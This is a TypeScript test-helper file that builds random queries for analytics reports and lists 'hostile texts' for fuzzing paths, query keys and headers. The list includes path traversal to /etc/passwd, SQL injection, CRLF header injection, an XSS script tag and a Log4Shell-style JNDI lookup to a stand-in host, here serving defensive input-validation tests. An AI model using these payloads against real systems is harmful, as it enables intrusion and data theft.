import type { Random } from "../../local/simulation/random";
import { allReports } from "../../pipeline/reports/allReports";
import type { AnyReport } from "../../pipeline/reports/report";
import { wholeQuestion } from "../pipeline/query/aQueryApi";
import { canary } from "./canary";
import type { QuestionDraft } from "./questionFamily";

/** Any of the reports. */
export const anyReport = (chance: Random): AnyReport =>
  chance.pick(allReports as readonly AnyReport[] as [AnyReport, ...AnyReport[]]);

/** A question that a report can be asked, in one of its forms, with whatever of its parameters. */
export const goodQuestion = (
  chance: Random,
  report: AnyReport = anyReport(chance),
): Required<Pick<QuestionDraft, "path" | "query">> => {
  const [path = "", search = ""] = wholeQuestion(report).split("?");
  const query: Record<string, string> = Object.fromEntries(new URLSearchParams(search));
  // a report of its own site finds nothing at that of the examples
  for (const [name, parameter] of Object.entries(
    report.parameters as Readonly<Record<string, { readonly example: string }>>,
  ))
    if (name !== "site_id" && query[name] === undefined && chance.chance(0.1))
      query[name] = parameter.example;
  if (report.live !== undefined && chance.chance(0.2)) query["live"] = "true";
  if (chance.chance(0.2)) query["limit"] = String(chance.between(1, 3));
  if (chance.chance(0.2)) query["format"] = chance.pick(["csv", "json"]);
  return { path, query };
};

/** What stands in keys of queries, in paths and in headers, and must not be taken for more than it is. */
export const hostileTexts: readonly [string, ...string[]] = [
  "",
  " ",
  "%",
  "%00",
  "%ff",
  "%2e%2e%2f",
  "../../../etc/passwd",
  "\0",
  "\r\nX-Injected: 1",
  "\u2028",
  "\ud83d",
  "🍣".repeat(40),
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  "?",
  "NULL",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "__proto__",
  "constructor",
  "toString",
  "*",
  "{}",
  "=1+1",
  "<script>alert(1)</script>",
  "\u0024{jndi:ldap://x.example/a}",
  canary,
  canary.repeat(800),
  "é".repeat(5_000),
  "9".repeat(400),
  "-1",
  "0",
  "1e3",
  "0x10",
  "２０２６-０３-０１",
  "2026-03-01,2026-03-02",
];
